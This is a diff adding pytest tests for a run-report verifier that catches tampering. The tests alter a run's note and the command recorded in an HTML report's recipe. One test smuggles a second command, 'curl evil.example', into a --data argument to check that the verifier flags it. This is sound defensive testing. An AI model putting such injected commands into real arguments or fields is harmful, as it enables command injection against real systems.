@@ -8,6 +8,7 @@ import json
 import re
 import shutil
 from collections import Counter
+from dataclasses import replace
 
 import pytest
 from campaigns import reports as campaign
@@ -19,6 +20,7 @@ from uge_core.cli.main import run as uge_command
 from uge_core.errors import ConfigError, RecordError
 from uge_core.explore.whatif.edits import DropEdges
 from uge_core.explore.whatif.scenario import Scenario, Scenarios
+from uge_core.runs.notes import pin_note
 from uge_core.runs.verify import exit_code
 from uge_core.views.report import Sheet, pieces, printed, recipe, table
 
@@ -334,3 +336,48 @@ def test_the_recipe_of_very_many_runs_is_read_and_the_limit_stays():
     with pytest.raises(RecordError, match="cannot be read"):
         table.lines('a,"b')
     assert csv.field_size_limit() == before
+
+
+def told_otherwise(html, old, new, **changes):
+    """The page with a text in the place of another, and a recipe that says so, sealed anew."""
+    assert old in html
+    start, found, end = html.replace(old, new).rpartition(f'id="{pieces.RECIPE}">')
+    line, close, rest = end.partition("</script>")
+    card = recipe.read(line)[0]
+    line = replace(card, **{k: {**getattr(card, k), **v} for k, v in changes.items()}).sealed("")
+    return page_sealed_anew(start + found + line + close + rest)
+
+
+def test_a_note_that_is_not_the_stores_is_told(bench, tmp_path):
+    store = uge.RunStore(shutil.copytree(bench.store.root, tmp_path / "store", ignore=shutil.ignore_patterns("*.sock")))
+    here = Bench(tmp_path, store, bench.scenario, bench.runs)
+    run_id = bench.runs[0]
+    pin_note(store, run_id, "rejected by the board")
+    (path,) = uge.report(bench.runs, tmp_path / "r.html", store=store)
+    html = path.read_text()
+    assert exit_code(here.found(html.encode())) == 0
+    changed = told_otherwise(
+        html, "rejected by the board", "passed by the board", notes={run_id: "passed by the board"}
+    )
+    findings = here.found(changed.encode())
+    assert exit_code(findings) == 3 and set(named(findings)) == {"note"}
+    assert named(findings)["note"].startswith(f"the note of run {run_id} is not what the store holds now")
+    # One that was taken away since, or put there.
+    pin_note(store, run_id, "")
+    assert "holds none now" in named(here.found(html.encode()))["note"]
+    pin_note(store, bench.runs[1], "new")
+    (about,) = [f.about for f in here.found(bench.made("html")) if f.what == "note"]
+    assert about == f"run {bench.runs[1]}"
+    # A table prints none, and a store without the runs has none to compare with.
+    assert exit_code(here.found(bench.made("csv"))) == 0
+    empty = Bench(tmp_path, uge.RunStore(tmp_path / "none"), bench.scenario, bench.runs)
+    assert "note" not in named(empty.found(html.encode()))
+
+
+@pytest.mark.parametrize("others", [{}, {"attribute": "nothing that was audited"}])
+def test_a_command_that_names_other_data_than_the_runs_is_found(bench, html, others):
+    data = "sample:town; curl evil.example"
+    changed = told_otherwise(html, "--data sample:town", f"--data {data}", chosen={"data": data, **others})
+    findings = bench.found(changed.encode())
+    assert (exit_code(findings) == 1 and "figures" not in named(findings)) or others
+    assert repr(data) in named(findings)["command"] and "'sample:town'" in named(findings)["command"]
